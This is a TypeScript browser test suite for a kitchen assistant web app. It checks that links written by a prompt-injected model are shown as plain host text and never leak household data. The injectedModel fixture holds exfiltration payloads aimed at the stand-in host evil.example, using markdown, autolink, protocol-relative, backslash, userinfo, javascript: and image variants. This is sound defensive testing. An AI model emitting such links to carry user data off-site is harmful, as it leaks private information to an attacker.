import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { act, ask, sessions } from './browser-session.js';
import { ControlledModel, startWebHarness, type WebHarness } from './web-harness.js';

/** Browser waits under a loaded CI machine: well inside vitest's 20 s, far above the usual 0.1 s. */
const POLL = { timeout: 8_000 };

/** Stands for the household data an injected model gathered and tries to send away. */
const DATA = 'hh-eggs10-tofu2';
const evil = (path: string): string => `https://evil.example/${path}?d=${DATA}`;

let h: WebHarness;
const browser = sessions(() => h);

beforeAll(async () => {
  h = await startWebHarness();
}, 90_000);

afterAll(async () => {
  await browser.closeAll();
  await h?.close();
});

/**
 * An injected model (issue 16.8): it reads the fridge, then writes the data into links of every
 * shape the page might make clickable — in the answer, its cards, its thought and a tool input —
 * beside two honest links to the app's own pages.
 */
function injectedModel(url: string): ControlledModel {
  const reply = [
    `今晚做番茄炒蛋。[payload](${evil('p')})`,
    `自动链接 <${evil('a')}>，裸链接 ${evil('b')} ，www.evil.example/w?d=${DATA}`,
    `[协议相对](//evil.example/c?d=${DATA}) [反斜杠](/\\evil.example/e?d=${DATA}) [用户名](https://127.0.0.1@evil.example/f?d=${DATA})`,
    `[脚本](javascript:location='${evil('g')}') ![图](${evil('h.png')}) **${evil('i')}** \`${evil('j')}\``,
    `[冰箱](/fridge) [菜谱](${url}/recipes)`,
  ].join('\n');
  const final = {
    thought: `完成，详见 ${evil('t2')}`,
    final: {
      reply,
      cards: [
        { type: 'recipe', name: '番茄炒蛋', reason: `做法见 ${evil('k')}`, url: evil('u') },
        { type: 'nutrition', food: '番茄', source: evil('s'), note: `[来源](${evil('l')})` },
      ],
    },
  };
  return new ControlledModel([
    act('fridge_items', {}, `先看冰箱 ${evil('t')}`),
    act('nutrition_lookup', { food: evil('n') }, '查一下'),
    JSON.stringify(final),
  ]);
}

/** Every link on the page, resolved: where a click would go. */
const hrefs = (page: Page): Promise<string[]> =>
  page.locator('a[href], area[href]').evaluateAll((all) => all.map((a) => (a as unknown as URL).href));

/** Requests that left the kitchen's origin. */
function offsite(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith(h.url) && !r.url().startsWith('blob:')) seen.push(r.url());
  });
  return seen;
}

/** The whole document as markup (text and every attribute): the data is nowhere in it. */
async function expectNoData(page: Page): Promise<void> {
  const html = await page.content();
  expect(html).toContain('evil.example'); // the host is shown …
  expect(html).not.toContain(DATA); // … never the data in its path or query
  expect(html).not.toMatch(/evil\.example[/?\\]/);
  for (const href of await hrefs(page)) expect(new URL(href).origin, href).toBe(h.url);
}

describe('links written by a model (issue 16.8)', () => {
  it('the assistant: only own-origin links are clickable; others are text with their host, never the data', async () => {
    h.model = injectedModel(h.url);
    const page = await browser.signedIn();
    const requests = offsite(page);
    await ask(page, '今晚吃什么？');
    const turn = page.getByTestId('assistant-turn').last();
    await turn.getByTestId('cards').waitFor();
    await expect
      .poll(() => turn.getByTestId('run-status').getAttribute('data-status'), POLL)
      .toContain('success');
    // No link anywhere on the page leaves the origin.
    for (const href of await hrefs(page)) expect(new URL(href).origin, href).toBe(h.url);

    const answer = turn.getByTestId('answer-text');
    const text = (await answer.textContent()) ?? '';
    expect(text).toContain('payload (evil.example)');
    expect(text).toContain('自动链接 evil.example，裸链接 evil.example ，www.evil.example');
    expect(text).toContain('协议相对 (evil.example) 反斜杠 (evil.example) 用户名 (evil.example)');
    expect(text).toContain('脚本 [图]'); // javascript: keeps its label only; the image is never loaded
    expect(await answer.locator('strong').textContent()).toBe('evil.example');
    expect(await answer.locator('code').textContent()).toBe('evil.example');
    expect(await turn.locator('img, iframe, script').count()).toBe(0);
    // Cards: the reason shows the host; the `url` field the model added never arrives (the
    // kitchen's card schema has no link field and drops unknown ones), and the nutrition card's
    // source and note are stamped by the server, not taken from the model.
    const recipe = (await turn.getByTestId('card-recipe').textContent()) ?? '';
    expect(recipe).toContain('做法见 evil.example');
    expect(recipe).not.toContain('url');
    expect(await turn.getByTestId('card-nutrition').textContent()).not.toContain('evil');
    // The family's steps (under "how I got this") show neither the thought nor the tool input
    // the model wrote (issue 19); the playground's timeline shows them, by the same rule (below).
    expect(await turn.locator('.step-reason').count()).toBe(0);
    expect(await turn.getByTestId('how').textContent()).not.toContain('evil');

    // The own links are links, in this tab, with no opener or referrer.
    const links = answer.locator('a');
    expect(await links.allTextContents()).toEqual(['冰箱', '菜谱']);
    expect(await links.evaluateAll((all) => all.map((a) => (a as unknown as URL).href))).toEqual([
      `${h.url}/fridge`,
      `${h.url}/recipes`,
    ]);
    for (const link of await links.all()) {
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(await link.getAttribute('target')).toBeNull();
    }
    await expectNoData(page);

    // A foreign host is text: clicking it goes nowhere.
    const before = page.url();
    await answer.getByTestId('foreign-link').first().click();
    expect(page.url()).toBe(before);

    // An own link is clickable: it opens the fridge, still signed in.
    await links.first().click();
    await page.waitForURL(`${h.url}/fridge`);
    await page.getByTestId('fridge-list').waitFor();

    // Back on the assistant, the conversation's earlier turns keep the rule: the answer as it
    // showed live (Markdown, a foreign link as its host) and its cards, from the kept data.
    await page.locator('nav a[href="/assistant"]').click();
    const earlier = page.getByTestId('earlier-turns');
    await earlier.waitFor(POLL);
    expect(await earlier.textContent()).toContain('payload (evil.example)');
    expect(await earlier.getByTestId('card-recipe').textContent()).toContain('做法见 evil.example');
    expect(await earlier.locator('a').allTextContents()).toEqual(['冰箱', '菜谱']);
    await expectNoData(page);
    expect(requests).toEqual([]);
  });

  it('the playground: the detailed timeline (thoughts, tool inputs and outputs) keeps the rule too', async () => {
    h.model = injectedModel(h.url);
    const page = await browser.signedIn('xiaojia', { locale: 'en-US' });
    const requests = offsite(page);
    await page.locator('footer a[href="/playground"]').click();
    await page.locator('#pg-query').fill('What is for dinner?');
    await page.getByTestId('run').click();
    const output = page.getByTestId('pg-output');
    await expect
      .poll(() => output.getByTestId('run-status').getAttribute('data-status'), POLL)
      .toContain('success');
    await output.locator('details').evaluateAll((all) => all.forEach((d) => d.setAttribute('open', '')));
    expect(await output.locator('.step-act pre').nth(1).textContent()).toContain('"food": "evil.example"');
    expect(await output.getByTestId('answer-text').textContent()).toContain('payload (evil.example)');
    await expectNoData(page);
    expect(requests).toEqual([]);
  });

  it('a raw (unparseable) answer shows another site by its host too', async () => {
    h.model = new ControlledModel([`I think {{ see ${evil('r')} and [x](${evil('x')}), "recipe": [unclosed`]);
    const page = await browser.signedIn();
    await ask(page, '随便');
    const turn = page.getByTestId('assistant-turn').last();
    await turn.getByTestId('label-raw').waitFor();
    expect(await turn.getByTestId('answer-text').textContent()).toBe(
      'I think {{ see evil.example and [x](evil.example), "recipe": [unclosed',
    );
    await expectNoData(page);
  });
});
